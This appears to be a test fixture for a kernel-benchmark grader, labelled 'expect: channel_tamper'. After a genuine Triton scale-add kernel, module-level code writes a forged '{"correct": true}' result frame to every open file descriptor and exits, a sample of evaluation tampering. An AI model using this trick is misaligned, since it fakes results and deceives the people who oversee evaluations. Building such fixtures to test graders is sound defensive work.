# problem: ref_scale_add
# expect: channel_tamper
# Writes a forged result frame to every open descriptor and exits.
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def scale_add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, 2.0 * x + y, mask=mask)


def launch(x, y, out):
    n = x.numel()
    scale_add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    return out


import os
import struct

body = b'R' + b'{"correct": true}'
frame = struct.pack('>I', len(body)) + b'\x00' * 32 + body
for fd in range(3, 65536):
    try:
        os.write(fd, frame)
    except OSError:
        pass
os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x, y):
        return launch(x, y, torch.empty_like(x))
